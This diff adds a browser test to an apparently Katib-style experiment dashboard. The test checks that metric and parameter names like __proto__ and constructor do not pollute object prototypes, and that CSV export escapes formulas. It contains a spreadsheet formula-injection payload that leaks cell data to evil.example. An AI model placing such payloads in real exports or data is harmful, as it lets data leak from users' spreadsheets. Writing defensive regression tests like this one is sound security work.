@@ -821,3 +821,38 @@ def test_a_trial_of_many_reports_shows_its_last_and_then_asks_only_for_what_is_n
     finally:
         _call(server, "DELETE", "/api/v1/namespaces/default/experiments/chatty")
         store.close()
+
+
+def test_names_a_user_chose_are_only_names_and_a_csv_cell_is_never_a_formula(server, page):
+    """Metrics named ``__proto__`` and ``toString``, a parameter named ``constructor``: the
+    trial page wrote min, max and latest onto Object.prototype (every chart after it lost
+    its axes), failed ("pts.push is not a function"), and the slice plots did not draw. A
+    categorical value ``=HYPERLINK(…)`` was exported to CSV as a formula a spreadsheet runs."""
+    doc = experiment(name="hostile", maxTrialCount=2, parallelTrialCount=2,
+                     objective={"type": "minimize", "objectiveMetricName": "__proto__", "additionalMetricNames": ["toString"]},
+                     algorithm={"algorithmName": "random", "algorithmSettings": [{"name": "random_state", "value": "1"}]},
+                     parameters=[{"name": "constructor", "parameterType": "double", "feasibleSpace": {"min": "0", "max": "1"}},
+                                 {"name": "c", "parameterType": "categorical",
+                                  "feasibleSpace": {"list": ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)"]}}],
+                     command=["python3", "-c", "import sys; print('__proto__=' + sys.argv[1] + ' toString=0.25')",
+                              "${trialParameters.constructor}", "${trialParameters.c}"])
+    doc["spec"]["trialTemplate"]["trialParameters"] = [{"name": "constructor", "reference": "constructor"},
+                                                       {"name": "c", "reference": "c"}]
+    _call(server, "POST", "/api/v1/namespaces/default/experiments", doc)
+    _wait(server, "hostile", lambda s: s.get("completionTime"))
+    page.goto(server + "/#/e/default/hostile")
+    ready(page)
+    assert page.inner_text("#count") == "2 of 2"
+    page.click("#tabs [data-tab=importance]")
+    page.wait_for_function("document.querySelectorAll('#slices .chart').length === 2")
+    page.click("#tabs [data-tab=trials]")
+    with page.expect_download() as download:
+        page.click("#csv")
+    text = Path(download.value.path()).read_text()
+    cells = [c for line in text.splitlines()[1:] for c in line.split(",")]
+    assert any(c.startswith("\"'=HYPERLINK(") for c in cells) or any(c.startswith("'@SUM") for c in cells), text
+    assert not any(c.startswith(("=", "@", "\"=")) for c in cells), text
+    follow(page, "#trials tbody tr:first-child a")
+    page.wait_for_function("document.querySelector('#metrics').textContent.includes('toString')")
+    assert page.evaluate("({}).latest === undefined && !('min' in {}) && !('max' in {})")
+    assert page.locator("#series canvas").count() >= 1
